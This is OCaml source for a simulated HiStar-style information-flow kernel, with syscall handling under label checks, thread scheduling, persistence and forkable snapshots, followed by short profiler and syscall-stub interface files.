        if Int64.compare deadline (Sim_clock.now_ns k.clock) <= 0 then
          ok_resp R_unit
        else Ok (A_block (W_timer deadline))
    | Self_wait_alert ->
        let _, th = cur_thread k in
        if Queue.is_empty th.alerts then Ok (A_block W_alert)
        else ok_resp (R_alert (Queue.pop th.alerts))
    | Obj_get_label ce ->
        let* o = resolve k ~op:"obj_get_label" ce in
        let* () =
          match o.body with
          | Thr _ ->
              (* thread labels are mutable: require L_T'^J ⊑ L_T^J *)
              let lt = cur_label k in
              if
                Label.leq (Label.raise_j o.label) (Label.raise_j lt)
              then Ok ()
              else label_errf "obj_get_label: thread label not readable"
          | Seg _ | Con _ | Gat _ | Asp _ | Dev _ -> Ok ()
        in
        ok_resp (R_label o.label)
    | Obj_get_kind ce ->
        let* o = resolve k ~op:"obj_get_kind" ce in
        ok_resp (R_kind o.kind)
    | Obj_get_descrip ce ->
        let* o = resolve k ~op:"obj_get_descrip" ce in
        ok_resp (R_bytes o.descrip)
    | Obj_get_quota ce ->
        let* o = resolve k ~op:"obj_get_quota" ce in
        let* () = check_observe k ~op:"obj_get_quota" o in
        ok_resp (R_quota (o.quota, o.usage))
    | Obj_set_fixed_quota ce ->
        let* o = resolve k ~op:"obj_set_fixed_quota" ce in
        let* () = check_modify k ~op:"obj_set_fixed_quota" o in
        o.fixed_quota <- true;
        ok_resp R_unit
    | Obj_set_immutable ce ->
        let* o = resolve k ~op:"obj_set_immutable" ce in
        let* () = check_modify k ~op:"obj_set_immutable" o in
        o.immut <- true;
        ok_resp R_unit
    | Obj_get_metadata ce ->
        let* o = resolve k ~op:"obj_get_metadata" ce in
        let* () = check_observe k ~op:"obj_get_metadata" o in
        ok_resp (R_bytes o.metadata)
    | Obj_set_metadata (ce, md) ->
        let* o = resolve k ~op:"obj_set_metadata" ce in
        let* () = check_modify k ~op:"obj_set_metadata" o in
        if String.length md > 64 then invalid_f "obj_set_metadata: > 64 bytes"
        else begin
          o.metadata <- md;
          ok_resp R_unit
        end
    | Unref ce -> unref_impl k ce
    | Quota_move { container; target; nbytes } ->
        quota_move_impl k ~container ~target ~nbytes
    | Container_create (spec, avoid) ->
        let* parent_avoid =
          match find_obj k spec.container with
          | Some { body = Con c; _ } -> Ok c.avoid
          | Some _ -> invalid_f "container_create: parent not a container"
          | None -> not_found_f "container_create: no container %Ld" spec.container
        in
        (* avoid_types is inherited: descendants can only add bits *)
        let body =
          Con
            {
              children = Hashtbl.create 8;
              avoid = avoid lor parent_avoid;
              parent = spec.container;
            }
        in
        let* o = create_object k ~spec ~kind:Container ~clearance_check:false ~body in
        ok_resp (R_oid o.id)
    | Container_list ce ->
        let* o = resolve k ~op:"container_list" ce in
        let* c = as_container ~op:"container_list" o in
        let entries =
          Hashtbl.fold
            (fun oid kind acc ->
              let descrip =
                match find_obj k oid with Some ob -> ob.descrip | None -> "?"
              in
              (oid, kind, descrip) :: acc)
            c.children []
          |> List.sort (fun (a, _, _) (b, _, _) -> Int64.compare a b)
        in
        ok_resp (R_entries entries)
    | Container_get_parent ce ->
        let* o = resolve k ~op:"container_get_parent" ce in
        let* c = as_container ~op:"container_get_parent" o in
        ok_resp (R_oid c.parent)
    | Container_link { container; target } ->
        container_link_impl k ~container ~target
    | Segment_create (spec, len) ->
        if len < 0 then invalid_f "segment_create: negative length"
        else
          let body = Seg { data = Bytes.make len '\000' } in
          let* o = create_object k ~spec ~kind:Segment ~clearance_check:false ~body in
          ok_resp (R_oid o.id)
    | Segment_read (ce, off, len) -> segment_read_impl k ce off len
    | Segment_write (ce, off, data) -> segment_write_impl k ce off data
    | Segment_resize (ce, len) -> segment_resize_impl k ce len
    | Segment_get_size ce ->
        let* o, kind_ = resolve_segment k ~op:"segment_get_size" ce in
        let* () =
          match kind_ with
          | `Tls -> Ok ()
          | `Plain -> check_observe k ~op:"segment_get_size" o
        in
        (match o.body with
        | Seg s -> ok_resp (R_int (Int64.of_int (Bytes.length s.data)))
        | Con _ | Thr _ | Gat _ | Asp _ | Dev _ -> assert false)
    | Segment_copy (src, spec) ->
        let* o, kind_ = resolve_segment k ~op:"segment_copy" src in
        let* () =
          match kind_ with
          | `Tls -> Ok ()
          | `Plain -> check_observe k ~op:"segment_copy" o
        in
        (match o.body with
        | Seg s ->
            let body = Seg { data = Bytes.copy s.data } in
            let* o' = create_object k ~spec ~kind:Segment ~clearance_check:false ~body in
            ok_resp (R_oid o'.id)
        | Con _ | Thr _ | Gat _ | Asp _ | Dev _ -> assert false)
    | As_create spec ->
        let body = Asp { mappings = [] } in
        let* o = create_object k ~spec ~kind:Address_space ~clearance_check:false ~body in
        ok_resp (R_oid o.id)
    | As_get ce ->
        let* o = resolve k ~op:"as_get" ce in
        let* () = check_observe k ~op:"as_get" o in
        (match o.body with
        | Asp a -> ok_resp (R_mappings a.mappings)
        | Seg _ | Con _ | Thr _ | Gat _ | Dev _ -> invalid_f "as_get: not an AS")
    | As_map (ce, m) ->
        let* o = resolve k ~op:"as_map" ce in
        let* () = check_modify k ~op:"as_map" o in
        (match o.body with
        | Asp a ->
            a.mappings <- m :: List.filter (fun m' -> m'.va <> m.va) a.mappings;
            ok_resp R_unit
        | Seg _ | Con _ | Thr _ | Gat _ | Dev _ -> invalid_f "as_map: not an AS")
    | As_unmap (ce, va) ->
        let* o = resolve k ~op:"as_unmap" ce in
        let* () = check_modify k ~op:"as_unmap" o in
        (match o.body with
        | Asp a ->
            a.mappings <- List.filter (fun m -> m.va <> va) a.mappings;
            ok_resp R_unit
        | Seg _ | Con _ | Thr _ | Gat _ | Dev _ -> invalid_f "as_unmap: not an AS")
    | Thread_create { spec; clearance; entry } ->
        thread_create_impl k ~spec ~clearance ~entry
    | Thread_alert (ce, alert) -> thread_alert_impl k ce alert
    | Thread_get_label ce ->
        let* o = resolve k ~op:"thread_get_label" ce in
        (match o.body with
        | Thr _ ->
            let lt = cur_label k in
            if Label.leq (Label.raise_j o.label) (Label.raise_j lt) then
              ok_resp (R_label o.label)
            else label_errf "thread_get_label: not readable"
        | Seg _ | Con _ | Gat _ | Asp _ | Dev _ ->
            invalid_f "thread_get_label: not a thread")
    | Gate_create { spec; clearance; entry; one_shot } ->
        gate_create_impl k ~spec ~clearance ~entry:(Entry_fn entry) ~one_shot
    | Gate_enter { gate; requested_label; requested_clearance; verify_label } ->
        gate_enter_impl k ~gate ~requested_label ~requested_clearance
          ~verify_label
    | Gate_call
        {
          gate;
          requested_label;
          requested_clearance;
          verify_label;
          return_spec;
          return_clearance;
        } ->
        gate_call_impl k kont ~gate ~requested_label ~requested_clearance
          ~verify_label ~return_spec ~return_clearance
    | Futex_wait (ce, off, expected) ->
        let* o, kind_ = resolve_segment k ~op:"futex_wait" ce in
        let* () =
          match kind_ with
          | `Tls -> Ok ()
          | `Plain -> check_observe k ~op:"futex_wait" o
        in
        (match o.body with
        | Seg s -> (
            match read_i64_at s.data off with
            | None -> invalid_f "futex_wait: offset out of range"
            | Some v ->
                if Int64.equal v expected then begin
                  Queue.push k.current (futex_queue k (futex_key o.id off));
                  Ok (A_block (W_futex (o.id, off)))
                end
                else ok_resp (R_ok false))
        | Con _ | Thr _ | Gat _ | Asp _ | Dev _ -> assert false)
    | Futex_wake (ce, off, count) ->
        let* o, kind_ = resolve_segment k ~op:"futex_wake" ce in
        (* waking is a write: it conveys information to the waiters, so
           it demands modify permission like any store to the word *)
        let* () =
          match kind_ with
          | `Tls -> Ok ()
          | `Plain -> check_modify k ~op:"futex_wake" o
        in
        let q = futex_queue k (futex_key o.id off) in
        let woken = ref 0 in
        while !woken < count && not (Queue.is_empty q) do
          let tid = Queue.pop q in
          (match find_obj k tid with
          | Some { body = Thr th; _ } -> (
              match th.tstate with
              | `Blocked (W_futex _) ->
                  wake k tid (R_ok true);
                  incr woken
              | `Ready | `Running | `Blocked _ | `Halted -> ())
          | Some _ | None -> ())
        done;
        ok_resp (R_int (Int64.of_int !woken))
    | Net_get_mac ce ->
        let* o, d = resolve_device k ~op:"net_get_mac" ce in
        let* () = check_observe k ~op:"net_get_mac" o in
        ok_resp (R_bytes d.mac)
    | Net_send (ce, frame) ->
        let* o, d = resolve_device k ~op:"net_send" ce in
        let* () = check_modify k ~op:"net_send" o in
        d.transmit frame;
        ok_resp R_unit
    | Net_recv ce ->
        let* o, d = resolve_device k ~op:"net_recv" ce in
        let* () = check_observe k ~op:"net_recv" o in
        if Queue.is_empty d.rx then Ok (A_block (W_net o.id))
        else ok_resp (R_bytes (Queue.pop d.rx))
    | Segment_cas (ce, off, expected, desired) ->
        let* o, kind_ = resolve_segment k ~op:"segment_cas" ce in
        let* () =
          match kind_ with
          | `Tls -> Ok ()
          | `Plain -> check_modify k ~op:"segment_cas" o
        in
        (match o.body with
        | Seg s -> (
            match read_i64_at s.data off with
            | None -> invalid_f "segment_cas: offset out of range"
            | Some v ->
                if Int64.equal v expected then begin
                  Bytes.set_int64_le s.data off desired;
                  ok_resp (R_ok true)
                end
                else ok_resp (R_ok false))
        | Con _ | Thr _ | Gat _ | Asp _ | Dev _ -> assert false)
    | Sync_object ce ->
        let* o = resolve k ~op:"sync_object" ce in
        (match k.store with
        | None -> ok_resp R_unit
        | Some s ->
            (* The metadata record rides along so the id/category
               counters are durable whenever a freshly allocated object
               is: otherwise recovery would restore an older counter and
               re-issue this object's id to something else. *)
            Store.put s ~oid:o.id (encode_obj o);
            Store.put s ~oid:meta_oid (meta_record k);
            Store.sync_oids s ~oids:[ o.id; meta_oid ];
            ok_resp R_unit)
    | Sync_many ces ->
        let* objs =
          List.fold_left
            (fun acc ce ->
              let* acc = acc in
              let* o = resolve k ~op:"sync_many" ce in
              Ok (o :: acc))
            (Ok []) ces
        in
        (match k.store with
        | None -> ok_resp R_unit
        | Some s ->
            List.iter (fun o -> Store.put s ~oid:o.id (encode_obj o)) objs;
            Store.put s ~oid:meta_oid (meta_record k);
            Store.sync_oids s ~oids:(List.map (fun o -> o.id) objs @ [ meta_oid ]);
            ok_resp R_unit)
    | Sync_range (ce, off, len) ->
        let* o, _ = resolve_segment k ~op:"sync_range" ce in
        (match k.store with
        | None -> ok_resp R_unit
        | Some s ->
            Store.put s ~oid:o.id (encode_obj o);
            (* The in-place fast path implies the object has a
               checkpointed home location, so the counters already cover
               its id; only the log fallback can make a new object
               durable and must carry the metadata record with it. *)
            if not (Store.sync_range s ~oid:o.id ~off ~len) then begin
              Store.put s ~oid:meta_oid (meta_record k);
              Store.sync_oid s ~oid:meta_oid
            end;
            ok_resp R_unit)
    | Sync_all ->
        do_checkpoint k;
        ok_resp R_unit
    | Clock_read -> ok_resp (R_int (Sim_clock.now_ns k.clock))
  in
  match result with Ok action -> action | Error e -> A_resp (R_err e)

(* ---------- thread execution ---------- *)

let start_body body =
  Effect.Deep.match_with body ()
    {
      retc = (fun () -> Finished);
      exnc = (fun e -> Crashed e);
      effc =
        (fun (type a) (eff : a Effect.t) ->
          match eff with
          | Syscall req ->
              Some
                (fun (kont : (a, run_state) Effect.Deep.continuation) ->
                  Syscalled (req, kont))
          | _ -> None);
    }

let halt_thread k tid =
  match find_obj k tid with
  | Some ({ body = Thr th; _ } as _o) ->
      th.tstate <- `Halted;
      th.next_run <- None;
      th.parked <- None
  | Some _ | None -> ()

let rec run_state_loop k tid rs =
  match rs with
  | Finished -> halt_thread k tid
  | Crashed exn ->
      halt_thread k tid;
      Logs.warn (fun m ->
          m "thread %Ld crashed: %s" tid (Printexc.to_string exn))
  | Syscalled (req, kont) -> (
      Profile.record k.profile (req_name req);
      (* Three cost tiers: segment data access models a memory-mapped
         load/store through the page tables (the paper's fault path is
         only taken on first touch); object creation models allocation,
         label manipulation and page zeroing; everything else is a
         plain trap. *)
      let cost_ns =
        match req with
        | Segment_read _ | Segment_write _ | Segment_cas _
        | Segment_get_size _ ->
            k.syscall_cost_ns / 4
        | Segment_create _ | Segment_copy _ | Container_create _
        | Thread_create _ | Gate_create _ | As_create _ | Gate_call _ ->
            k.syscall_cost_ns * 30
        | _ -> k.syscall_cost_ns
      in
      let action =
        if k.instrument then begin
          let t0 = Sim_clock.now_ns k.clock in
          Sim_clock.advance_ns k.clock (Int64.of_int cost_ns);
          let action = handle_syscall k kont req in
          Metrics.Counter.incr m_syscalls;
          let t1 = Sim_clock.now_ns k.clock in
          Metrics.Histogram.observe m_syscall_ns
            (Int64.to_int (Int64.sub t1 t0));
          (match action with
          | A_resp (R_err (Label_check _)) -> Metrics.Counter.incr m_label_errors
          | _ -> ());
          if Mtrace.enabled () then
            Mtrace.emit ~ts_ns:t1 "syscall"
              [
                ("name", req_name req);
                ("thread", Int64.to_string tid);
                ("virtual_ns", Int64.to_string (Int64.sub t1 t0));
              ];
          action
        end
        else begin
          Sim_clock.advance_ns k.clock (Int64.of_int cost_ns);
          handle_syscall k kont req
        end
      in
      match find_obj k tid with
      | None -> () (* thread was destroyed by its own syscall *)
      | Some { body = Thr th; _ } -> (
          match action with
          | A_resp resp ->
              th.tstate <- `Ready;
              th.next_run <- Some (Resume (kont, resp));
              enqueue k tid
          | A_block reason ->
              th.tstate <- `Blocked reason;
              th.parked <- Some kont
          | A_jump f ->
              (* control transfer through a gate: the old continuation
                 is abandoned, like loading a new PC *)
              th.tstate <- `Ready;
              th.next_run <- Some (Start f);
              enqueue k tid
          | A_resume (saved, resp) ->
              th.tstate <- `Ready;
              th.next_run <- Some (Resume (saved, resp));
              enqueue k tid
          | A_halt -> halt_thread k tid)
      | Some _ -> assert false)

and run_slice k tid =
  match find_obj k tid with
  | Some { body = Thr th; _ } -> (
      match (th.tstate, th.next_run) with
      | `Ready, Some runnable ->
          th.tstate <- `Running;
          th.next_run <- None;
          k.current <- tid;
          let rs =
            match runnable with
            | Start f -> start_body f
            | Resume (kont, resp) -> Effect.Deep.continue kont resp
          in
          run_state_loop k tid rs
      | _ -> ())
  | Some _ | None -> ()

(* When nothing is runnable but a thread is parked on a timer
   deadline, play idle clock: jump virtual time forward to the
   earliest deadline and wake that sleeper. This is what lets a
   retransmission timer fire over a fully flapped link (no inbound
   frames to drive progress) without busy-spinning the run queue.
   Ties break on the lower deadline then the lower tid, so the wake
   order is independent of hash-table iteration order. *)
let fire_next_timer k =
  let next =
    Hashtbl.fold
      (fun tid o acc ->
        match o.body with
        | Thr { tstate = `Blocked (W_timer d); _ } -> (
            match acc with
            | Some (tid', d')
              when Int64.compare d' d < 0
                   || (Int64.equal d' d && Int64.compare tid' tid < 0) ->
                acc
            | Some _ | None -> Some (tid, d))
        | _ -> acc)
      k.objects None
  in
  match next with
  | None -> false
  | Some (tid, d) ->
      let now = Sim_clock.now_ns k.clock in
      if Int64.compare d now > 0 then
        Sim_clock.advance_ns k.clock (Int64.sub d now);
      wake k tid R_unit;
      true

(* Earliest parked timer deadline, for multi-kernel drivers that must
   decide which host's idle clock to advance next (lib/dist's cluster
   driver). [None] when no thread is parked on a timer. *)
let next_timer_ns k =
  Hashtbl.fold
    (fun _ o acc ->
      match o.body with
      | Thr { tstate = `Blocked (W_timer d); _ } -> (
          match acc with
          | Some d' when Int64.compare d' d <= 0 -> acc
          | Some _ | None -> Some d)
      | _ -> acc)
    k.objects None

let step k =
  match Queue.take_opt k.runq with
  | None -> fire_next_timer k
  | Some tid ->
      run_slice k tid;
      true

let run k = while step k do () done

(* ---------- counting / introspection ---------- *)

let fold_threads k f init =
  Hashtbl.fold
    (fun _ o acc -> match o.body with Thr th -> f acc th | _ -> acc)
    k.objects init

let runnable_count k = Queue.length k.runq

let blocked_count k =
  fold_threads k
    (fun acc th -> match th.tstate with `Blocked _ -> acc + 1 | _ -> acc)
    0

let live_thread_count k =
  fold_threads k
    (fun acc th -> match th.tstate with `Halted -> acc | _ -> acc + 1)
    0

let object_count k = Hashtbl.length k.objects

let label_cache_stats k =
  (Label_cache.hits k.label_cache, Label_cache.misses k.label_cache)

let elide_enabled k = k.elide
let label_epoch k = k.label_epoch
let gate_summary_count k = Hashtbl.length k.gate_summaries
let obj_label k oid = Option.map (fun o -> o.label) (find_obj k oid)
let obj_kind k oid = Option.map (fun o -> o.kind) (find_obj k oid)
let obj_quota k oid = Option.map (fun o -> (o.quota, o.usage)) (find_obj k oid)

let container_children k oid =
  match find_obj k oid with
  | Some { body = Con c; _ } ->
      Some (Hashtbl.fold (fun oid kind acc -> (oid, kind) :: acc) c.children [])
  | Some _ | None -> None

let segment_data k oid =
  match find_obj k oid with
  | Some { body = Seg s; _ } -> Some (Bytes.to_string s.data)
  | Some _ | None -> None

let thread_state k oid =
  match find_obj k oid with
  | Some { body = Thr th; _ } ->
      Some
        (match th.tstate with
        | `Ready -> `Ready
        | `Running -> `Running
        | `Blocked _ -> `Blocked
        | `Halted -> `Halted)
  | Some _ | None -> None

let thread_label k oid =
  match find_obj k oid with
  | Some { body = Thr _; label; _ } -> Some label
  | Some _ | None -> None

(* Read-only state-observation API for the conformance fuzzer: enough of
   an object's externally-specified state (label, quota accounting, link
   structure, flags) to compare a kernel run against the reference model
   in lib/model. Host/test interface — not subject to label checks. *)

let obj_refs k oid = Option.map (fun o -> o.refs) (find_obj k oid)

let obj_flags k oid =
  Option.map (fun o -> (o.fixed_quota, o.immut)) (find_obj k oid)

let obj_metadata k oid = Option.map (fun o -> o.metadata) (find_obj k oid)
let obj_descrip k oid = Option.map (fun o -> o.descrip) (find_obj k oid)

let thread_clearance k oid =
  match find_obj k oid with
  | Some { body = Thr th; _ } -> Some th.tclear
  | Some _ | None -> None

let as_mappings k oid =
  match find_obj k oid with
  | Some { body = Asp a; _ } -> Some a.mappings
  | Some _ | None -> None

let container_parent_of k oid =
  match find_obj k oid with
  | Some { body = Con c; _ } -> Some c.parent
  | Some _ | None -> None

(* ---------- construction ---------- *)

let create ?(seed = 0x4853_7461_7221L) ?clock ?store ?(syscall_cost_ns = 500)
    ?(instrument = true) ?weaken ?elide () =
  let clock = match clock with Some c -> c | None -> Sim_clock.create () in
  (* The stale-summary mutant is only meaningful with elision on, so it
     forces it regardless of HISTAR_NO_ELIDE. *)
  let elide =
    (match elide with Some e -> e | None -> Label_cache.elide_default ())
    || weaken = Some Weaken_stale_summary
  in
  let k =
    {
      clock;
      store;
      objects = Hashtbl.create 256;
      oidgen = Category_gen.create ~key:seed;
      catgen = Category_gen.create ~key:(Int64.lognot seed);
      runq = Queue.create ();
      futexq = Hashtbl.create 64;
      label_cache = Label_cache.create ~elide ();
      profile = Profile.create ();
      current = 0L;
      root = 0L;
      trace = None;
      syscall_cost_ns;
      instrument;
      weaken;
      elide;
      label_epoch = 0;
      gate_summaries = Hashtbl.create 32;
      key = seed;
      snap = Bptree.create ();
      snap_enc = Hashtbl.create 256;
    }
  in
  let root_id = next_oid k in
  let root_obj =
    {
      id = root_id;
      kind = Container;
      label = Label.make Level.L1;
      descrip = "root container";
      quota = infinite_quota;
      usage = base_overhead;
      fixed_quota = true;
      immut = false;
      metadata = "";
      refs = 1;
      body = Con { children = Hashtbl.create 32; avoid = 0; parent = root_id };
    }
  in
  Hashtbl.replace k.objects root_id root_obj;
  k.root <- root_id;
  k

let spawn k ?label ?clearance ?container ~name entry =
  let label = Option.value label ~default:(Label.make Level.L1) in
  let clearance = Option.value clearance ~default:(Label.make Level.L2) in
  let container = Option.value container ~default:k.root in
  let tls = mk_tls k in
  let id = next_oid k in
  let o =
    {
      id;
      kind = Thread;
      label;
      descrip = name;
      quota = 65_536L;
      usage = base_overhead;
      fixed_quota = false;
      immut = false;
      metadata = "";
      refs = 1;
      body =
        Thr
          {
            tclear = clearance;
            tls;
            tas = None;
            tstate = `Ready;
            next_run = Some (Start entry);
            parked = None;
            alerts = Queue.create ();
            return_gate = None;
          };
    }
  in
  Hashtbl.replace k.objects id o;
  (match find_obj k container with
  | Some ({ body = Con c; _ } as d) ->
      Hashtbl.replace c.children id Thread;
      d.usage <- Int64.add d.usage o.quota
  | Some _ | None -> invalid_arg "Kernel.spawn: bad container");
  enqueue k id;
  id

(* ---------- devices ---------- *)

let attach_netdev k ~container ~label ~mac ~transmit =
  let id = next_oid k in
  let o =
    {
      id;
      kind = Device;
      label;
      descrip = "netdev " ^ mac;
      quota = 65_536L;
      usage = base_overhead;
      fixed_quota = true;
      immut = false;
      metadata = "";
      refs = 1;
      body = Dev { mac; rx = Queue.create (); transmit };
    }
  in
  Hashtbl.replace k.objects id o;
  (match find_obj k container with
  | Some ({ body = Con c; _ } as d) ->
      Hashtbl.replace c.children id Device;
      d.usage <- Int64.add d.usage o.quota
  | Some _ | None -> invalid_arg "Kernel.attach_netdev: bad container");
  id

let deliver_packet k dev_oid frame =
  match find_obj k dev_oid with
  | Some { body = Dev d; _ } -> (
      Queue.push frame d.rx;
      (* wake one thread blocked on this device *)
      let waiter =
        fold_threads k
          (fun acc th ->
            match (acc, th.tstate) with
            | None, `Blocked (W_net oid) when Int64.equal oid dev_oid ->
                Some th
            | _ -> acc)
          None
      in
      match waiter with
      | Some _ ->
          (* find its tid by scanning; thread records don't know their id *)
          Hashtbl.iter
            (fun tid o ->
              match o.body with
              | Thr th -> (
                  match th.tstate with
                  | `Blocked (W_net oid)
                    when Int64.equal oid dev_oid && not (Queue.is_empty d.rx) ->
                      wake k tid (R_bytes (Queue.pop d.rx))
                  | _ -> ())
              | _ -> ())
            k.objects
      | None -> ())
  | Some _ | None -> invalid_arg "Kernel.deliver_packet: no such device"

(* Host-side wake of futex waiters on a segment word (used by device
   glue that runs outside any thread, e.g. the VPN tunnel endpoint).
   Does not write the word; lost wakeups cannot occur because host code
   only runs between thread slices. *)
let host_wake_futex k oid ~off =
  let q = futex_queue k (futex_key oid off) in
  while not (Queue.is_empty q) do
    let tid = Queue.pop q in
    match find_obj k tid with
    | Some { body = Thr th; _ } -> (
        match th.tstate with
        | `Blocked (W_futex _) -> wake k tid (R_ok true)
        | `Ready | `Running | `Blocked _ | `Halted -> ())
    | Some _ | None -> ()
  done

(* ---------- persistence ---------- *)

let checkpoint k = do_checkpoint k

let recover ~store =
  let meta =
    match Store.get store ~oid:meta_oid with
    | Some m -> m
    | None -> invalid_arg "Kernel.recover: no kernel metadata in store"
  in
  let d = Codec.Dec.of_string meta in
  let root = Codec.Dec.i64 d in
  let oid_counter = Codec.Dec.i64 d in
  let cat_counter = Codec.Dec.i64 d in
  let key = Codec.Dec.i64 d in
  let clock = Sim_clock.create () in
  let k =
    {
      clock;
      store = Some store;
      objects = Hashtbl.create 256;
      oidgen = Category_gen.restore ~key ~counter:oid_counter;
      catgen = Category_gen.restore ~key:(Int64.lognot key) ~counter:cat_counter;
      runq = Queue.create ();
      futexq = Hashtbl.create 64;
      label_cache = Label_cache.create ();
      profile = Profile.create ();
      current = 0L;
      root;
      trace = None;
      syscall_cost_ns = 500;
      instrument = true;
      weaken = None;
      elide = Label_cache.elide_default ();
      label_epoch = 0;
      gate_summaries = Hashtbl.create 32;
      key;
      snap = Bptree.create ();
      snap_enc = Hashtbl.create 256;
    }
  in
  Store.iter_oids store (fun oid ->
      if not (Int64.equal oid meta_oid) then
        match Store.get store ~oid with
        | Some payload -> Hashtbl.replace k.objects oid (decode_obj payload)
        | None -> ());
  k

(* ---------- branchable kernel states ---------- *)

(* A handle is a whole-kernel version: every object in its serialized
   form inside a persistent map, plus the scalar machine state. Taking
   one re-encodes live objects but only *writes* tree paths for objects
   whose encoding changed since the previous fork, so N sibling forks
   of a quiescent kernel cost O(N) tree nodes, not O(N · objects) —
   the structural-sharing property the btree.node_allocs counter
   asserts. Continuations are not serializable (the same departure from
   the paper as [recover]), so a resumed branch comes back with all
   threads halted and code-carrying gates dead; harnesses re-arm them
   with [restart_thread] and [set_gate_entry]. *)
type handle = {
  h_objects : string Bptree.t;
  h_root : oid;
  h_oid_counter : int64;
  h_cat_counter : int64;
  h_key : int64;
  h_now_ns : int64;
  h_syscall_cost_ns : int;
  h_instrument : bool;
  h_weaken : weaken option;
  h_elide : bool;
  h_label_epoch : int;
  h_gate_summaries : (oid, gate_summary) Hashtbl.t;
  h_label_cache : Label_cache.t;
  h_profile : Profile.t;
  h_name : string option;
}

(* Deep copy: summary records are mutable, so branch and trunk must not
   share them (like the label cache, a resumed branch's elision
   behaviour is bit-identical to the trunk's at the branch point). *)
let copy_gate_summaries tbl =
  let t = Hashtbl.create (max 16 (Hashtbl.length tbl)) in
  Hashtbl.iter
    (fun oid s ->
      Hashtbl.replace t oid
        {
          s_epoch = s.s_epoch;
          s_thread = s.s_thread;
          s_req = s.s_req;
          s_result = s.s_result;
        })
    tbl;
  t

(* HERMIT-style named branch points: fork ~name publishes the handle in
   a registry so later phases can resume or discard it by name. *)
let handle_registry : (string, handle) Hashtbl.t = Hashtbl.create 16

(* Named forks can happen from any domain (check cells capture corpus
   branches on the lib/par pool); the registry is the only cross-kernel
   shared table here, so it gets its own mutex. *)
let handle_registry_mu = Mutex.create ()

let fork ?name k =
  (* Drop tree entries for objects destroyed since the last fork. *)
  let stale =
    Hashtbl.fold
      (fun oid _ acc -> if Hashtbl.mem k.objects oid then acc else oid :: acc)
      k.snap_enc []
  in
  List.iter
    (fun oid ->
      Hashtbl.remove k.snap_enc oid;
      match Bptree.remove k.snap oid with
      | Some m -> k.snap <- m
      | None -> ())
    stale;
  (* Re-encode live objects; only changed encodings touch the tree. *)
  Hashtbl.iter
    (fun oid o ->
      let enc = encode_obj o in
      match Hashtbl.find_opt k.snap_enc oid with
      | Some prev when String.equal prev enc -> ()
      | _ ->
          Hashtbl.replace k.snap_enc oid enc;
          k.snap <- Bptree.insert k.snap oid enc)
    k.objects;
  let h =
    {
      h_objects = k.snap;
      h_root = k.root;
      h_oid_counter = Category_gen.counter k.oidgen;
      h_cat_counter = Category_gen.counter k.catgen;
      h_key = k.key;
      h_now_ns = Sim_clock.now_ns k.clock;
      h_syscall_cost_ns = k.syscall_cost_ns;
      h_instrument = k.instrument;
      h_weaken = k.weaken;
      h_elide = k.elide;
      h_label_epoch = k.label_epoch;
      h_gate_summaries = copy_gate_summaries k.gate_summaries;
      h_label_cache = Label_cache.copy k.label_cache;
      h_profile = Profile.copy k.profile;
      h_name = name;
    }
  in
  (match name with
  | Some n ->
      Mutex.lock handle_registry_mu;
      Hashtbl.replace handle_registry n h;
      Mutex.unlock handle_registry_mu
  | None -> ());
  h

let resume h =
  let clock = Sim_clock.create () in
  Sim_clock.advance_ns clock h.h_now_ns;
  let k =
    {
      clock;
      store = None;
      objects = Hashtbl.create 256;
      oidgen = Category_gen.restore ~key:h.h_key ~counter:h.h_oid_counter;
      catgen =
        Category_gen.restore ~key:(Int64.lognot h.h_key)
          ~counter:h.h_cat_counter;
      runq = Queue.create ();
      futexq = Hashtbl.create 64;
      label_cache = Label_cache.copy h.h_label_cache;
      profile = Profile.copy h.h_profile;
      current = 0L;
      root = h.h_root;
      trace = None;
      syscall_cost_ns = h.h_syscall_cost_ns;
      instrument = h.h_instrument;
      weaken = h.h_weaken;
      elide = h.h_elide;
      label_epoch = h.h_label_epoch;
      gate_summaries = copy_gate_summaries h.h_gate_summaries;
      key = h.h_key;
      snap = h.h_objects;
      snap_enc = Hashtbl.create 256;
    }
  in
  Bptree.iter
    (fun oid enc ->
      Hashtbl.replace k.snap_enc oid enc;
      Hashtbl.replace k.objects oid (decode_obj enc))
    h.h_objects;
  k

let drop h =
  match h.h_name with
  | Some n ->
      Mutex.lock handle_registry_mu;
      (match Hashtbl.find_opt handle_registry n with
      | Some h' when h' == h -> Hashtbl.remove handle_registry n
      | Some _ | None -> ());
      Mutex.unlock handle_registry_mu
  | None -> ()

let handle_name h = h.h_name

let find_handle name =
  Mutex.lock handle_registry_mu;
  let r = Hashtbl.find_opt handle_registry name in
  Mutex.unlock handle_registry_mu;
  r

let handle_names () =
  Mutex.lock handle_registry_mu;
  let ns = Hashtbl.fold (fun n _ acc -> n :: acc) handle_registry [] in
  Mutex.unlock handle_registry_mu;
  List.sort String.compare ns

let handle_object_count h = Bptree.cardinal h.h_objects

(* Restart a thread that decoded as halted: same oid, same TLS, fresh
   entry body. Consumes no generator state, so a restarted branch stays
   oid-for-oid aligned with one that never stopped. *)
let restart_thread k tid entry =
  match find_obj k tid with
  | Some { body = Thr th; _ } ->
      th.tstate <- `Ready;
      th.next_run <- Some (Start entry);
      th.parked <- None;
      enqueue k tid
  | Some _ | None -> invalid_arg "Kernel.restart_thread: no such thread"

(* Re-arm a gate whose entry decoded as [Entry_dead]. Refuses to
   clobber a live entry: branch resumption only replaces what
   serialization lost. *)
let set_gate_entry k gate_oid entry =
  match find_obj k gate_oid with
  | Some { body = Gat g; _ } -> (
      match g.gentry with
      | Entry_dead -> g.gentry <- Entry_fn entry
      | Entry_fn _ | Entry_resume _ ->
          invalid_arg "Kernel.set_gate_entry: gate entry still live")
  | Some _ | None -> invalid_arg "Kernel.set_gate_entry: no such gate"
