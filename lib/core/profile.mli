(** Kernel syscall profiler.

    Counts syscalls by name, backing the paper's observations that
    fork/exec needs 317 syscalls on HiStar's low-level interface versus
    127 for spawn (§7.1). *)

type t

val create : unit -> t
val record : t -> string -> unit
val total : t -> int
val count : t -> string -> int

val to_list : t -> (string * int) list
(** Canonical order: count descending, then name — deterministic for
    equal contents regardless of insertion order. *)

val equal : t -> t -> bool
(** Same totals and per-syscall counts ({!to_list} comparison) — the
    byte-identity check the elision differential uses. *)

val copy : t -> t
(** An independent profile with the same counts. *)

val reset : t -> unit

val pp : Format.formatter -> t -> unit
