(** User-side system call interface.

    Each function performs the {!Syscall.Syscall} effect and unwraps the
    kernel's response, raising {!Types.Kernel_error} on error returns.
    This is the API that the untrusted user-level library (histar_unix)
    and applications are written against — the analogue of the paper's
    syscall stubs. *)

module Label = Histar_label.Label
module Category = Histar_label.Category
open Types

(** {1 Categories and self} *)

val cat_create : unit -> Category.t
val self_id : unit -> oid
val self_label : unit -> Label.t
